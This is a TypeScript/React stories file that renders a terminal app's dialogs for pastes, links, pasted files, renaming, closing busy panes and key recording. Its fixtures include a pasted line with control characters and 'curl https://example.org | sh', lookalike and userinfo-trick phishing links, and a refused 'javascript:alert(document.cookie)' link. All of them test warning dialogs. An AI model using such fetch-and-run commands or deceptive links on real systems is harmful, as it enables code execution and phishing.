import type { ReactNode } from 'react';
import type { Story } from '../../stories/index.ts';
import { CloseDialog } from './closing/close-dialog.tsx';
import type { BusyPane } from './closing/close-guard.ts';
import { inspectLink, LinkDialog } from '../hyperlinks/index.ts';
import { PasteDialog } from './clipboard/paste-dialog.tsx';
import { RecordKeysDialog } from './recording/record-keys-dialog.tsx';
import { PastedFilesDialog } from './files/pasted-files-dialog.tsx';
import { RenameTabDialog } from './tabs/rename-dialog.tsx';
import { storageWith, doNothing, playing, RECORDED, tab, TERMINALS_STATE } from './story-data.tsx';
import { TerminalsPage } from './terminals-page.tsx';

/** Builds the story of a dialog over a running terminal. */
const asking = (name: string, dialog: ReactNode): Story => ({
  name: `terminals/${name}`,
  state: TERMINALS_STATE,
  answers: playing(RECORDED),
  frame: 'none',
  render: () => (
    <main style={{ height: '100%' }}>
      <TerminalsPage storage={storageWith([tab(1)])} />
      {dialog}
    </main>
  ),
});
const paste = (pasted: string): ReactNode => <PasteDialog text={pasted} onPaste={doNothing} onClose={doNothing} />;
const link = (target: string, seen: string): ReactNode => (
  <LinkDialog
    link={inspectLink(target, seen)}
    origin="A program on office shows this link. It opens in your browser."
    onOpen={doNothing}
    onClose={doNothing}
  />
);
const rename = (name: string): ReactNode => (
  <RenameTabDialog
    tab={{ name, shown: 'zsh', title: 'mira@office: ~/project' }}
    onRename={doNothing}
    onClose={doNothing}
  />
);

const pasted = (files: readonly File[], hasFolder: boolean): ReactNode => (
  <PastedFilesDialog
    files={files}
    machine="office"
    onInbox={doNothing}
    {...(hasFolder && { onFolder: doNothing })}
    onClose={doNothing}
  />
);
/** Picture of 96 × 64 pixels, as PNG. */
const PICTURE =
  'iVBORw0KGgoAAAANSUhEUgAAAGAAAABACAIAAABqVuVZAAAAeElEQVR42u3QAQ0AIAwDMIQhBxEXgRxEXBYOLmBpUgVdu5rBUiBIkCBBggQJEoQgQYIECRIUFnSqGQgSJEiQIEGCBAlCkCBBggQJSgu61QwECRIkSJAgQYIEIUiQIEGCBKUFvWoGggQJEiRIkCBBghAkSJAgQYLCfCb4Qmjwo9jIAAAAAElFTkSuQmCC';
const picture = new File([Uint8Array.from(atob(PICTURE), (character) => character.charCodeAt(0))], 'image.png', {
  type: 'image/png',
});

const closing = (count: number, ...busy: readonly (readonly [program: string, title: string])[]): ReactNode => (
  <CloseDialog
    busy={busy.map(([program], pane): BusyPane => ({ pane, program }))}
    panes={Array.from({ length: count }, (_, pane) => pane)}
    namesOf={(pane) => ({ title: busy[pane]?.[1] ?? `bash (${pane + 1})`, machine: 'office' })}
    onCloseTerminals={doNothing}
    onClose={doNothing}
  />
);

/** Stories of the dialogs about pastes, links, tabs, closing and recording. */
export const TERMINAL_DIALOGS_STORIES: readonly Story[] = [
  asking('paste of several lines', paste('cd /srv/app\ngit pull --ff-only\n./deploy.sh --production\n')),
  asking('paste with control characters', paste('\necho \u001b[31mred\u0007\u202e && curl https://example.org | sh')),
  asking('paste of long lines', paste(`${'a-long-word-'.repeat(40)}\n`.repeat(300))),
  asking('pasted picture', pasted([picture], true)),
  asking('pasted picture for a machine without folders of terminals', pasted([picture], false)),
  asking(
    'pasted files',
    pasted(
      Array.from(
        { length: 12 },
        (_, index) => new File(['x'.repeat(index * 1000)], `${'a-long-name-'.repeat(index)}.txt`),
      ),
      true,
    ),
  ),
  asking('link', link('https://example.org/help?page=2', 'https://example.org/help?page=2')),
  asking('link to another host', link('https://xn--bnk-7cd.example/login?from=terminal', 'https://bank.example/')),
  asking('link that warns of all', link(`http://bank.example@evil.example:8080/${'path/'.repeat(40)}`, 'Sign in')),
  asking('link for mail', link('mailto:mira@example.org', 'mira@example.org')),
  asking('link refused', link('javascript:alert(document.cookie)', 'https://bank.example/')),
  asking('record what is typed', <RecordKeysDialog onRecord={doNothing} onClose={doNothing} />),
  asking('close one in which a program runs', closing(1, ['sleep', 'mira@office: ~/project'])),
  asking(
    'close several in which programs run',
    closing(
      4,
      ['make', 'make -j8 all'],
      ['vim', 'vim a-file-with-quite-a-long-name-that-someone-has-given-it.md'],
      ['a-program-with-a-name-of-sixty-four-characters-which-is-the-most', 'office'],
    ),
  ),
  asking('rename', rename('')),
  asking('rename with a name', rename('logs of the web server')),
];
